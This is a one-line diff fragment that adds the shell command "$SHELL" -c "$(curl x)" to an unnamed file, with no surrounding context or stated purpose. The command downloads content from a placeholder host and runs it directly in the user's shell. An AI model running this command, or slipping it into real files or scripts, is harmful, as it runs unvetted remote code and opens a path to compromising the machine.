@@ -1,0 +1,1 @@
+"$SHELL" -c "$(curl x)"
